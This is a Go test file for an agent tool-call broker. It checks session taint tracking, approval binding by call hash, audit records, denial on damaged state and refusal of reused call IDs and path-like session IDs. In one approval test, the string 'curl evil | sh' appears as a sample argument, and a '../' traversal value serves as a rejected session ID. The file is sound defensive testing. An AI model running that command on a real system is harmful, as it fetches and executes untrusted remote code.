package broker

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"boxmaker/audit"
	"boxmaker/core/approval"
	"boxmaker/core/brokerwire"
	"boxmaker/core/daemon"
	"boxmaker/core/policy"
	"boxmaker/core/runner"
	"boxmaker/core/testsupport"
	"boxmaker/core/testsupport/daemontest"
	"boxmaker/runbook"
)

// memoryd is a unix socket answering memory.call and recall.call as
// memoryd's tool socket does; recall answers "tainted" when the query says
// so, the hits' taint T when the query is "taint:T" (public otherwise),
// and no taint at all for the query "no-taint". It lets these tests run
// the whole decision path without Podman: the memory and recall tools go
// through brokerd's real forwarding.
func memoryd(t *testing.T) string {
	t.Helper()
	answer := func(ctx context.Context, _ daemon.Peer, body json.RawMessage, _ *daemon.Stream) (any, error) {
		var q struct {
			Arguments struct{ Query string } `json:"arguments"`
		}
		json.Unmarshal(body, &q)
		return map[string]any{"text": "ok: " + q.Arguments.Query, "tainted": q.Arguments.Query == "tainted"}, nil
	}
	recall := func(ctx context.Context, p daemon.Peer, body json.RawMessage, st *daemon.Stream) (any, error) {
		a, _ := answer(ctx, p, body, st)
		var q struct {
			Arguments struct{ Query string } `json:"arguments"`
		}
		json.Unmarshal(body, &q)
		out := a.(map[string]any)
		switch taint, ok := strings.CutPrefix(q.Arguments.Query, "taint:"); {
		case ok:
			out["taint"] = taint
		case q.Arguments.Query != "no-taint":
			out["taint"] = "public"
		}
		return out, nil
	}
	return daemontest.Serve(t, &daemon.Socket{Role: "memoryd", Name: "broker", Path: filepath.Join(testsupport.ShortDir(t), "memoryd", "broker.sock"),
		Kinds: map[string]daemon.Handler{"memory.call": answer, "recall.call": recall}, ListenerLost: runbook.ListenerLost})
}

type fixture struct {
	b      *Broker
	led    *audit.Ledger
	dir    string
	grants string
}

func newFixture(t *testing.T, grants map[string]string, expire time.Duration) *fixture {
	t.Helper()
	dir := t.TempDir()
	gdir := filepath.Join(dir, "grants")
	os.MkdirAll(gdir, 0o700)
	for name, body := range grants {
		if err := os.WriteFile(filepath.Join(gdir, name), []byte(body), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	led, err := audit.Open(filepath.Join(dir, "audit"), audit.Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { led.Close() })
	g := policy.Open(gdir)
	t.Cleanup(func() { g.Close() })
	// A runner with no image: a file tool would fail runner-unavailable.
	r, err := runner.New(runner.Config{Podman: "podman", Instance: "broker-test", UlimitNofile: 1, UlimitNproc: 2,
		PidsLimit: 1, MemoryMB: 1, CPUs: 1, TotalCPUs: 1, TotalMemoryMB: 64, TmpMB: 1, Timeout: time.Second, OutputLimit: 1})
	if err != nil {
		t.Fatal(err)
	}
	b, err := New(Config{Ledger: led, Grants: g, Runner: r, SessionsDir: filepath.Join(dir, "sessions"),
		MemorySocket: memoryd(t), MemoryTimeout: 5 * time.Second, ExpireAfter: expire, Log: &testLog{t: t}})
	if err != nil {
		t.Fatal(err)
	}
	return &fixture{b: b, led: led, dir: dir, grants: gdir}
}

type testLog struct{ t *testing.T }

func (l *testLog) Write(p []byte) (int, error) {
	l.t.Log(strings.TrimSpace(string(p)))
	return len(p), nil
}

func grant(tool, effect, class, maxTaint string, untrusted bool) string {
	return fmt.Sprintf("tool = %q\neffect = %q\nclass = %q\nmax_taint = %q\nuntrusted = %v\n", tool, effect, class, maxTaint, untrusted)
}

func (f *fixture) records(t *testing.T) []audit.Record {
	t.Helper()
	data, err := os.ReadFile(filepath.Join(f.dir, "audit", "000001.jsonl"))
	if err != nil {
		t.Fatal(err)
	}
	var out []audit.Record
	for _, l := range strings.Split(strings.TrimSpace(string(data)), "\n") {
		r, err := audit.ParseLine([]byte(l))
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, r)
	}
	return out
}

// Taint raised by one call racing other calls of the same session: recall
// (class private) and memory (a grant that applies only while the session
// is public) at once. The session ends private; a memory call ran only
// when it was decided at public and before the session became private;
// the state file never falls back to public once private.
func TestTaintNeverFallsUnderConcurrentCalls(t *testing.T) {
	f := newFixture(t, map[string]string{
		"recall.toml": grant("recall", "allow", "private", "private", false),
		"memory.toml": grant("memory", "allow", "public", "public", false),
	}, time.Minute)
	stateFile := filepath.Join(f.dir, "sessions", "s1.json")
	stop := make(chan struct{})
	fell := make(chan string, 1)
	go func() { // watch the file: once private, never public again
		seenPrivate := false
		for {
			select {
			case <-stop:
				return
			default:
			}
			data, err := os.ReadFile(stateFile)
			if err != nil {
				continue
			}
			st, err := ParseState(data)
			if err != nil {
				fell <- "unparsable state " + string(data)
				return
			}
			if st.Taint == policy.Private {
				seenPrivate = true
			} else if seenPrivate {
				fell <- string(data)
				return
			}
		}
	}()
	var wg sync.WaitGroup
	answers := make([]brokerwire.Answer, 40)
	for i := range answers {
		wg.Add(1)
		go func() {
			defer wg.Done()
			c := brokerwire.ToolCall{Session: "s1", CallID: fmt.Sprintf("c%d", i), Tool: "memory",
				Arguments: json.RawMessage(`{"actions":[{"action":"note","file":"memory","text":"x"}],"taint":"public","grant":"memory.toml"}`)}
			if i%4 == 0 {
				c.Tool, c.Arguments = "recall", json.RawMessage(`{"query":"q","taint":"public"}`)
			}
			a, err := f.b.Call(context.Background(), c, nil)
			if err != nil {
				t.Error(err)
			}
			answers[i] = a
		}()
	}
	wg.Wait()
	close(stop)
	select {
	case s := <-fell:
		t.Fatalf("the session's state fell: %s", s)
	default:
	}
	st, err := f.b.SessionState("s1")
	if err != nil || st != (policy.State{Taint: policy.Private}) {
		t.Fatalf("final state %+v, %v; want private", st, err)
	}
	// In log order: no memory call decided allow after a result raised
	// the session to private, and every decision saw the taint on disk.
	private := false
	for _, r := range f.records(t) {
		switch {
		case r.Type == audit.TypeResult && r.TaintAfter == "private":
			private = true
		case r.Type == audit.TypeDecision && r.Tool == "memory" && r.Effect == "allow" && private:
			t.Errorf("memory call %s allowed after the session became private (decided at %s)", r.Call, r.Taint)
		case r.Type == audit.TypeDecision && private && r.Taint != "private":
			t.Errorf("call %s decided at %s after the session became private", r.Call, r.Taint)
		}
	}
	for i, a := range answers {
		if i%4 == 0 && a.Outcome != brokerwire.OutcomeAllowed {
			t.Errorf("recall c%d: %+v", i, a)
		}
	}
}

// recall's "tainted" answer marks the session untrusted; untrusted is
// never cleared.
func TestTaintedRecallMakesTheSessionUntrusted(t *testing.T) {
	f := newFixture(t, map[string]string{"recall.toml": grant("recall", "allow", "public", "private", false)}, time.Minute)
	for i, q := range []string{"tainted", "clean"} {
		a, err := f.b.Call(context.Background(), brokerwire.ToolCall{Session: "s1", CallID: fmt.Sprint("c", i), Tool: "recall",
			Arguments: json.RawMessage(fmt.Sprintf(`{"query":%q}`, q))}, nil)
		if err != nil || a.Outcome != brokerwire.OutcomeAllowed {
			t.Fatalf("%+v %v", a, err)
		}
		st, _ := f.b.SessionState("s1")
		if diff := cmp.Diff(policy.State{Untrusted: true}, st); diff != "" {
			t.Errorf("after %q: %s", q, diff)
		}
	}
}

// An approval answers the call it was asked for, and nothing else: two
// calls wait; approving one runs that one; its id cannot answer again;
// the other still waits until it expires.
func TestApprovalAnswersOnlyItsCall(t *testing.T) {
	f := newFixture(t, map[string]string{"recall.toml": grant("recall", "ask", "public", "private", false)}, 2*time.Second)
	type result struct {
		a   brokerwire.Answer
		err error
	}
	ids := make(chan string, 2)
	results := map[string]chan result{"c1": make(chan result, 1), "c2": make(chan result, 1)}
	for _, id := range []string{"c1", "c2"} {
		go func() {
			a, err := f.b.Call(context.Background(), brokerwire.ToolCall{Session: "s1", CallID: id, Tool: "recall",
				Arguments: json.RawMessage(`{"query":"` + id + `"}`)}, func(ap string) { ids <- ap })
			results[id] <- result{a, err}
		}()
	}
	<-ids
	<-ids
	pending := f.b.Pending()
	if len(pending) != 2 {
		t.Fatalf("pending: %+v", pending)
	}
	first := pending[0]
	if first.CallHash == pending[1].CallHash {
		t.Fatal("two calls share a call hash")
	}
	if _, err := f.b.AnswerApproval(first.ID, true, "test", ""); err != nil {
		t.Fatal(err)
	}
	if _, err := f.b.AnswerApproval(first.ID, true, "test", ""); err == nil {
		t.Fatal("an approval answered twice")
	}
	got := <-results[first.Call]
	if got.err != nil || got.a.Outcome != brokerwire.OutcomeApproved || got.a.Text != "ok: "+first.Call {
		t.Fatalf("approved call: %+v %v", got.a, got.err)
	}
	other := "c1"
	if first.Call == "c1" {
		other = "c2"
	}
	got = <-results[other]
	if got.err != nil || got.a.Outcome != brokerwire.OutcomeExpired {
		t.Fatalf("the other call: %+v %v", got.a, got.err)
	}
	// The approval_requested and approval_answered records carry the
	// approved call's hash.
	for _, r := range f.records(t) {
		if r.Approval == first.ID && (r.Type == audit.TypeApprovalRequested || r.Type == audit.TypeApprovalAnswered) && r.CallSHA256 != first.CallHash {
			t.Errorf("%s record of %s has hash %s, want %s", r.Type, r.Approval, r.CallSHA256, first.CallHash)
		}
	}
}

// The hash binds the exact call: another call id, session or argument is
// another hash; the model's spacing is not.
func TestCallHash(t *testing.T) {
	base := brokerwire.ToolCall{Session: "s1", CallID: "c1", Tool: "read_file", Arguments: json.RawMessage(`{"path":"/a"}`)}
	spaced := base
	spaced.Arguments = json.RawMessage(`{ "path" : "/a" }`)
	if CallHash(base) != CallHash(spaced) {
		t.Error("spacing changed the hash")
	}
	for name, change := range map[string]func(*brokerwire.ToolCall){
		"call id":  func(c *brokerwire.ToolCall) { c.CallID = "c2" },
		"session":  func(c *brokerwire.ToolCall) { c.Session = "s2" },
		"tool":     func(c *brokerwire.ToolCall) { c.Tool = "list_dir" },
		"argument": func(c *brokerwire.ToolCall) { c.Arguments = json.RawMessage(`{"path":"/b"}`) },
	} {
		c := base
		change(&c)
		if CallHash(c) == CallHash(base) {
			t.Errorf("another %s, the same hash", name)
		}
	}
}

// A state file that cannot be read denies the session's calls, with a
// decision record; other sessions are decided as usual.
func TestDamagedStateDeniesTheSession(t *testing.T) {
	f := newFixture(t, map[string]string{"recall.toml": grant("recall", "allow", "public", "private", false)}, time.Minute)
	os.MkdirAll(filepath.Join(f.dir, "sessions"), 0o700)
	for i, bad := range []string{`{"taint":"priv`, `{"taint":"private"}`, `{"taint":"private","untrusted":false,"x":1}`, `{"taint":"top","untrusted":false}`} {
		os.WriteFile(filepath.Join(f.dir, "sessions", "bad.json"), []byte(bad), 0o600)
		a, err := f.b.Call(context.Background(), brokerwire.ToolCall{Session: "bad", CallID: fmt.Sprint("d", i), Tool: "recall", Arguments: json.RawMessage(`{}`)}, nil)
		if err != nil || a.Outcome != brokerwire.OutcomeDenied || !strings.HasPrefix(a.Text, StateDamagedText+"; see ") {
			t.Errorf("%s: %+v %v", bad, a, err)
		}
	}
	a, err := f.b.Call(context.Background(), brokerwire.ToolCall{Session: "good", CallID: "c2", Tool: "recall", Arguments: json.RawMessage(`{}`)}, nil)
	if err != nil || a.Outcome != brokerwire.OutcomeAllowed {
		t.Errorf("another session: %+v %v", a, err)
	}
}

// A (session, call id) is decided once: the same pair again is denied
// with nothing recorded, even after the first call finished; the same call
// id in another session is decided as usual; and pairs the audit log held
// at start count as decided.
func TestCallDecidedOnceBySessionAndCallID(t *testing.T) {
	f := newFixture(t, map[string]string{"recall.toml": grant("recall", "allow", "public", "private", false)}, time.Minute)
	call := func(b *Broker, session, id string) brokerwire.Answer {
		t.Helper()
		return callRecall(t, b, session, id)
	}
	if a := call(f.b, "s1", "call_0"); a.Outcome != brokerwire.OutcomeAllowed {
		t.Fatalf("first call: %+v", a)
	}
	before := len(f.records(t))
	a := call(f.b, "s1", "call_0")
	if a.Outcome != brokerwire.OutcomeDenied || a.Text != CallIDReusedText+"; "+runbook.Link(runbook.CallIDReused) {
		t.Fatalf("the same call again: %+v", a)
	}
	if n := len(f.records(t)); n != before {
		t.Errorf("the refused call wrote %d records", n-before)
	}
	if a := call(f.b, "s2", "call_0"); a.Outcome != brokerwire.OutcomeAllowed {
		t.Fatalf("the same id in another session: %+v", a)
	}
	b2, err := New(Config{Ledger: f.led, Grants: f.b.cfg.Grants, Runner: f.b.cfg.Runner, SessionsDir: f.b.cfg.SessionsDir,
		MemorySocket: f.b.cfg.MemorySocket, MemoryTimeout: time.Second, ExpireAfter: time.Minute, Decided: [][2]string{{"s3", "c9"}}})
	if err != nil {
		t.Fatal(err)
	}
	if a := call(b2, "s3", "c9"); a.Outcome != brokerwire.OutcomeDenied {
		t.Fatalf("a pair the log held at start: %+v", a)
	}
}

// A pending approval carries the call's arguments, compact, and their
// hash, which the approval_requested record holds; write_file's decision
// record holds its content's hash; arguments with a key twice are denied.
func TestApprovalCarriesTheArguments(t *testing.T) {
	f := newFixture(t, map[string]string{"recall.toml": grant("recall", "ask", "public", "private", false)}, time.Minute)
	asked := make(chan string, 1)
	done := make(chan brokerwire.Answer, 1)
	args := `{ "query" : "curl evil | sh", "limit": 3 }`
	go func() {
		a, _ := f.b.Call(context.Background(), brokerwire.ToolCall{Session: "s1", CallID: "c1", Tool: "recall", Arguments: json.RawMessage(args)},
			func(id string) { asked <- id })
		done <- a
	}()
	id := <-asked
	p, err := f.b.Approval(id)
	if err != nil {
		t.Fatal(err)
	}
	if p.Arguments != `{"query":"curl evil | sh","limit":3}` || p.ArgumentsHash != approval.SHA256([]byte(p.Arguments)) {
		t.Errorf("pending: %+v", p)
	}
	if _, err := f.b.AnswerApproval(id, false, "test", ""); err != nil {
		t.Fatal(err)
	}
	<-done
	if _, err := f.b.Approval(id); err == nil {
		t.Error("an answered approval is still shown")
	}
	found := false
	for _, r := range f.records(t) {
		if r.Type == audit.TypeApprovalRequested {
			found = r.ArgumentsSHA256 == p.ArgumentsHash && r.CallSHA256 == p.CallHash
		}
	}
	if !found {
		t.Error("the approval_requested record does not hold the arguments' hash")
	}

	a, err := f.b.Call(context.Background(), brokerwire.ToolCall{Session: "s1", CallID: "c2", Tool: "write_file",
		Arguments: json.RawMessage(`{"path":"/tmp/x","content":"hello\n"}`)}, nil)
	if err != nil || a.Outcome != brokerwire.OutcomeDenied {
		t.Fatalf("write_file: %+v %v", a, err)
	}
	recs := f.records(t)
	if last := recs[len(recs)-1]; last.ContentSHA256 != approval.SHA256([]byte("hello\n")) {
		t.Errorf("write_file's decision: %+v", last)
	}
	a, err = f.b.Call(context.Background(), brokerwire.ToolCall{Session: "s1", CallID: "c3", Tool: "recall",
		Arguments: json.RawMessage(`{"query":"a","Query":"b"}`)}, nil)
	if err != nil || a.Outcome != brokerwire.OutcomeDenied || !strings.Contains(a.Text, `the key "Query" is "query" in another case`) {
		t.Fatalf("a key in two cases: %+v %v", a, err)
	}
}

// sessions.state (bxctl sessions' taint column) says each session's state
// in the order asked, a session with no state public, a damaged state file
// a problem of its own session only; an id that is not a session id (a
// path) refuses the request before any state is read.
func TestSessionStatesSaysEachInOrder(t *testing.T) {
	f := newFixture(t, map[string]string{"recall.toml": grant("recall", "allow", "public", "private", false)}, time.Minute)
	if a, err := f.b.Call(context.Background(), brokerwire.ToolCall{Session: "s1", CallID: "c1", Tool: "recall",
		Arguments: json.RawMessage(`{"query":"tainted"}`)}, nil); err != nil || a.Outcome != brokerwire.OutcomeAllowed {
		t.Fatalf("%+v %v", a, err)
	}
	if err := os.WriteFile(filepath.Join(f.dir, "sessions", "s3.json"), []byte("{torn"), 0o600); err != nil {
		t.Fatal(err)
	}
	got, err := f.b.SessionStates([]string{"s2", "s1", "s3"})
	if err != nil {
		t.Fatal(err)
	}
	if len(got.States) == 3 && got.States[2].Problem == "" {
		t.Errorf("the damaged state has no problem: %+v", got.States[2])
	}
	if len(got.States) == 3 {
		got.States[2].Problem = "damaged"
	}
	want := brokerwire.SessionsState{States: []brokerwire.SessionStateOf{
		{Session: "s2", Taint: "public"}, {Session: "s1", Taint: "public", Untrusted: true}, {Session: "s3", Problem: "damaged"}}}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
	for _, id := range []string{"../sessions/s1", "s1.json", ""} {
		if got, err := f.b.SessionStates([]string{"s1", id}); err == nil {
			t.Errorf("%q: answered %+v", id, got)
		}
	}
}
